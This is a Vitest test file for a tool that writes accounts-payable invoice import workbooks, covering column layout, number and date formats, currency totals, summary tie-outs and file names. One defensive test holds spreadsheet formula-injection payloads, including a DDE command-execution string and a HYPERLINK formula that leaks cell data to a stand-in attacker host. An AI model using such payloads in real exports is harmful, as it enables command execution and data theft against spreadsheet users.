import { describe, expect, it } from 'vitest';
import { importFileName, writeImportWorkbook } from './daily-detail-workbook';
import { DEFAULT_IMPORT_LAYOUT, parseImportLayout } from './import-layout';
import {
  electricalNoTotal,
  lumberCredit,
  makeInvoice,
  plumbingShort,
  readWorkbook,
  readyMix,
  rentalTotalOnly,
  rowValues,
  utcDate,
} from './test-invoices';

const POSTING = new Date(2026, 10, 22, 15, 30);
/** The default layout's own test pins its column list; here the sheet must follow it. */
const DEFAULT_HEADERS = DEFAULT_IMPORT_LAYOUT.columns.map((column) => column.header);

async function written(...args: Parameters<typeof writeImportWorkbook>) {
  return readWorkbook(await writeImportWorkbook(...args));
}

describe('the Daily-Detail sheet', () => {
  it('has a bold, frozen header row in layout order and one row per confirmed line', async () => {
    const workbook = await written([readyMix], { postingDate: POSTING });
    const sheet = workbook.getWorksheet('Daily-Detail')!;

    expect(rowValues(sheet, 1)).toEqual(DEFAULT_HEADERS);
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.rowCount).toBe(4);
    expect(rowValues(sheet, 2)).toEqual([
      utcDate('2026-11-22'),
      'RRM100',
      'Riverside Ready Mix, Inc.',
      'RM-88231',
      utcDate('2026-11-03'),
      utcDate('2026-12-03'),
      '2417',
      null,
      null,
      '4000 PSI concrete, 9.5 CY',
      1425,
      'PO 2417-031',
      'riverside-RM-88231.pdf',
      1,
    ]);
    expect(rowValues(sheet, 3).slice(9, 11)).toEqual(['Short load charge', 95]);
    expect(rowValues(sheet, 4).slice(9, 11)).toEqual(['Fuel surcharge', 38.5]);
    expect(rowValues(sheet, 4)[13]).toBe(3);
  });

  it('writes amounts as numbers formatted #,##0.00 and dates as Excel dates shown MM/DD/YYYY', async () => {
    const sheet = (await written([readyMix, lumberCredit], { postingDate: POSTING })).getWorksheet('Daily-Detail')!;
    const amount = sheet.getCell('K5');
    expect(amount.value).toBe(-287.4);
    expect(amount.type).toBe(2 /* ValueType.Number */);
    expect(amount.numFmt).toBe('#,##0.00');
    const invoiceDate = sheet.getCell('E2');
    expect(invoiceDate.value).toEqual(utcDate('2026-11-03'));
    expect(invoiceDate.numFmt).toBe('mm/dd/yyyy');
    // The credit memo has no due date: the cell stays empty rather than holding a made-up date.
    expect(sheet.getCell('F5').value).toBeNull();
    // Phase codes typed in later stay text instead of becoming dates.
    expect(sheet.getColumn(8).numFmt).toBe('@');
    expect(sheet.getCell('H40').numFmt).toBe('@');
  });

  it('writes a single row with the invoice total for an Invoice Total Only invoice', async () => {
    const sheet = (await written([rentalTotalOnly], { postingDate: POSTING })).getWorksheet('Daily-Detail')!;
    expect(sheet.rowCount).toBe(2);
    const row = rowValues(sheet, 2);
    expect(row[1]).toBeNull();
    expect(row[2]).toBe('Summit Equipment Rental');
    expect(row[6]).toBeNull();
    expect(row[9]).toBe('Invoice SER-20261107-0042-A total');
    expect(row[10]).toBe(2140.77);
  });

  it('keeps the columns narrow for dates and wide enough for descriptions', async () => {
    const sheet = (await written([readyMix], { postingDate: POSTING })).getWorksheet('Daily-Detail')!;
    const widths = DEFAULT_HEADERS.map((_, index) => sheet.getColumn(index + 1).width ?? 0);
    for (const width of widths) expect(width).toBeGreaterThanOrEqual(8);
    for (const width of widths) expect(width).toBeLessThanOrEqual(60);
    expect(sheet.getColumn(10).width).toBeGreaterThanOrEqual('4000 PSI concrete, 9.5 CY'.length);
    expect(sheet.getColumn(1).width).toBeLessThan(sheet.getColumn(10).width!);
  });

  it('follows a custom layout: its sheet name, column order, constants and text dates', async () => {
    const layout = parseImportLayout({
      sheetName: 'AP Import',
      dateFormat: 'YYYY-MM-DD',
      columns: [
        { header: 'Company', value: 1 },
        { header: 'Source', value: 'KAI' },
        { header: 'Amt', field: 'amount' },
        { header: 'Inv #', field: 'invoiceNumber' },
        { header: 'Inv Date', field: 'invoiceDate' },
        { header: 'GL Date', field: 'postingDate' },
        { header: 'Header Total', field: 'invoiceTotal' },
      ],
    });
    const workbook = await written([lumberCredit], { layout, postingDate: POSTING });
    expect(workbook.getWorksheet('Daily-Detail')).toBeUndefined();
    const sheet = workbook.getWorksheet('AP Import')!;
    expect(rowValues(sheet, 1)).toEqual(['Company', 'Source', 'Amt', 'Inv #', 'Inv Date', 'GL Date', 'Header Total']);
    expect(rowValues(sheet, 2)).toEqual([1, 'KAI', -287.4, 'CM-1044', '2026-11-05', '2026-11-22', -312.4]);
    expect(rowValues(sheet, 3)).toEqual([1, 'KAI', -25, 'CM-1044', '2026-11-05', '2026-11-22', -312.4]);
    expect(sheet.getCell('G2').numFmt).toBe('#,##0.00');
  });

  it('writes MM/DD/YYYY text dates when the layout asks for them', async () => {
    const layout = parseImportLayout({ ...DEFAULT_IMPORT_LAYOUT, dateFormat: 'MM/DD/YYYY' });
    const sheet = (await written([readyMix], { layout, postingDate: POSTING })).getWorksheet('Daily-Detail')!;
    expect(rowValues(sheet, 2).slice(0, 6)).toEqual(['11/22/2026', 'RRM100', 'Riverside Ready Mix, Inc.', 'RM-88231', '11/03/2026', '12/03/2026']);
  });

  it('turns text that a spreadsheet would run as a formula into plain text starting with a quote', async () => {
    const hostile = makeInvoice({
      ...readyMix,
      vendorName: '=cmd|"/c calc"!A1',
      invoiceNumber: '-1+2',
      reference: '\t=1+1',
      lines: [
        { description: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', amount: 1 },
        { description: '+1+1', amount: 2 },
        { description: '@SUM(A1)', amount: 3 },
        { description: '\r=1+1', amount: 4 },
      ],
      invoiceTotal: 10,
    });
    const workbook = await written([hostile], { postingDate: POSTING });
    const sheet = workbook.getWorksheet('Daily-Detail')!;
    expect([2, 3, 4, 5].map((row) => sheet.getCell(`J${row}`).value)).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
      "'+1+1",
      "'@SUM(A1)",
      // Surrounding white space is trimmed from descriptions; what is left is still quoted.
      "'=1+1",
    ]);
    expect(sheet.getCell('C2').value).toBe(`'=cmd|"/c calc"!A1`);
    expect(sheet.getCell('D2').value).toBe("'-1+2");
    expect(sheet.getCell('L2').value).toBe("'\t=1+1");
    for (const name of ['Daily-Detail', 'Summary']) {
      workbook.getWorksheet(name)!.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    }
    expect(workbook.getWorksheet('Summary')!.getCell('A5').value).toBe(`'=cmd|"/c calc"!A1`);
  });

  it('refuses an Invoice Total Only invoice with more than one line, and an empty batch', async () => {
    await expect(writeImportWorkbook([{ ...readyMix, totalOnly: true }])).rejects.toThrow(/RM-88231.*Invoice Total Only.*3 lines/);
    await expect(writeImportWorkbook([])).rejects.toThrow(/no confirmed invoices/);
  });
});

describe('the Summary sheet', () => {
  const batch = [readyMix, lumberCredit, rentalTotalOnly, electricalNoTotal, plumbingShort];

  it('ties each invoice and the grand total to the Daily-Detail amounts to the cent', async () => {
    const workbook = await written(batch, { postingDate: POSTING, companyName: 'Keystone Builders' });
    const detail = workbook.getWorksheet('Daily-Detail')!;
    const summary = workbook.getWorksheet('Summary')!;

    let detailCents = 0;
    for (let row = 2; row <= detail.rowCount; row++) detailCents += Math.round((detail.getCell(`K${row}`).value as number) * 100);
    expect(detail.rowCount - 1).toBe(11);
    expect(detailCents).toBe(440787);

    expect(summary.getCell('A1').value).toBe('AP import summary: Keystone Builders');
    expect(summary.getCell('B2').value).toEqual(utcDate('2026-11-22'));
    expect(rowValues(summary, 4, 11)).toEqual([
      'Vendor',
      'Invoice Number',
      'Invoice Date',
      'Job',
      'Reference/PO',
      'Currency',
      'Invoice Total',
      'Lines Written',
      'Difference',
      'Lines',
      'Check',
    ]);
    expect(summary.views[0]).toMatchObject({ state: 'frozen', ySplit: 4 });
    expect(rowValues(summary, 5, 11)).toEqual([
      'Riverside Ready Mix, Inc.',
      'RM-88231',
      utcDate('2026-11-03'),
      '2417',
      'PO 2417-031',
      'USD',
      1558.5,
      1558.5,
      0,
      3,
      'Ties out',
    ]);
    expect(rowValues(summary, 6, 11)).toEqual([
      'Valley Lumber & Supply',
      'CM-1044',
      utcDate('2026-11-05'),
      '2417',
      null,
      'USD',
      -312.4,
      -312.4,
      0,
      2,
      'Ties out',
    ]);
    expect(rowValues(summary, 7, 11).slice(6)).toEqual([2140.77, 2140.77, 0, 1, 'Ties out']);
    expect(rowValues(summary, 8, 11).slice(6)).toEqual([null, 31, null, 3, 'No printed total']);
    expect(rowValues(summary, 9, 11).slice(6)).toEqual([1000, 990, 10, 2, 'Lines differ from total']);

    const total = rowValues(summary, 10, 11);
    expect(total.slice(0, 2)).toEqual(['Total', '5 invoices']);
    expect(total[5]).toBe('USD');
    expect(total[6]).toEqual({ formula: 'SUM(G5:G9)', result: 4386.87 });
    expect(total[7]).toEqual({ formula: 'SUM(H5:H9)', result: 4407.87 });
    expect(total[8]).toEqual({ formula: 'SUM(I5:I9)', result: 10 });
    expect(total[9]).toEqual({ formula: 'SUM(J5:J9)', result: 11 });
    expect(total[10]).toBe('1 without a printed total');
    expect(Math.round((total[7] as { result: number }).result * 100)).toBe(detailCents);

    expect(summary.getCell('A11').value).toBe('Amount column of Daily-Detail');
    expect(summary.getCell('H11').value).toEqual({ formula: "SUM('Daily-Detail'!K2:K12)", result: 4407.87 });
    expect(summary.getCell('G6').numFmt).toBe('#,##0.00');
  });

  it('names the currency of each invoice beside its amounts, and says when the sums mix currencies', async () => {
    const euro = makeInvoice({ ...plumbingShort, invoiceId: 'inv-euro', invoiceNumber: 'RE-2026-118', currency: 'EUR' });
    const workbook = await written([readyMix, euro], { postingDate: POSTING });
    const summary = workbook.getWorksheet('Summary')!;
    expect(summary.getCell('F4').value).toBe('Currency');
    expect([summary.getCell('F5').value, summary.getCell('F6').value]).toEqual(['USD', 'EUR']);
    expect(summary.getCell('G6').value).toBe(1000);
    expect(summary.getCell('F7').value).toBe('Mixed');
    expect(summary.getCell('K7').value).toBe('Sums mix USD, EUR');
    // The Daily-Detail sheet keeps the ERP's columns: plain amounts, no currency column.
    const detail = workbook.getWorksheet('Daily-Detail')!;
    expect(rowValues(detail, 1)).toEqual(DEFAULT_HEADERS);
    expect(detail.getCell('K5').value).toBe(640);
    expect(detail.getCell('K5').numFmt).toBe('#,##0.00');
  });

  it('writes a charge added at review as a Daily-Detail row and names it in the Check column', async () => {
    const fixed = makeInvoice({ ...plumbingShort, lines: [...plumbingShort.lines, { description: 'Freight', amount: 10, added: true }] });
    const workbook = await written([fixed], { postingDate: POSTING });
    const detail = workbook.getWorksheet('Daily-Detail')!;
    expect(detail.rowCount).toBe(4);
    expect(rowValues(detail, 4).slice(9, 11)).toEqual(['Freight', 10]);
    expect(rowValues(workbook.getWorksheet('Summary')!, 5, 11).slice(6)).toEqual([1000, 1000, 0, 3, 'Ties out (1 charge added at review)']);
  });

  it('leaves out the cross-check when the layout has no amount column', async () => {
    const layout = parseImportLayout({ columns: [{ header: 'Invoice', field: 'invoiceNumber' }] });
    const summary = (await written([readyMix], { layout, postingDate: POSTING })).getWorksheet('Summary')!;
    expect(summary.getCell('A6').value).toBe('Total');
    expect(summary.getCell('A7').value).toBeNull();
  });
});

describe('the workbook', () => {
  it('says KAI wrote it and when', async () => {
    const before = Date.now();
    const workbook = await written([readyMix], { companyName: 'Keystone Builders' });
    expect(workbook.creator).toBe('KAI');
    expect(workbook.company).toBe('Keystone Builders');
    // The file stores whole seconds.
    expect(workbook.created.getTime()).toBeGreaterThanOrEqual(before - 1000);
    expect(workbook.created.getTime()).toBeLessThanOrEqual(Date.now());
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Daily-Detail', 'Summary']);
  });
});

describe('importFileName', () => {
  const when = new Date(2026, 10, 22, 15, 30, 59);

  it('names what the file is, when it was written and how many invoices it holds', () => {
    expect(importFileName('xlsx', when, 3)).toBe('AP-Import-Daily-Detail-2026-11-22-1530-3-invoices.xlsx');
    expect(importFileName('xlsx', new Date(2026, 0, 5, 9, 4), 1)).toBe('AP-Import-Daily-Detail-2026-01-05-0904-1-invoice.xlsx');
    expect(importFileName('aphb', when, 12)).toBe('AP-Import-Vista-APHB-Headers-2026-11-22-1530-12-invoices.csv');
    expect(importFileName('aplb', when, 12)).toBe('AP-Import-Vista-APLB-Lines-2026-11-22-1530-12-invoices.csv');
  });

  it('uses only characters that are safe in any file system and download header', () => {
    for (const kind of ['xlsx', 'aphb', 'aplb'] as const) expect(importFileName(kind, when, 7)).toMatch(/^[A-Za-z0-9.-]+$/);
  });
});
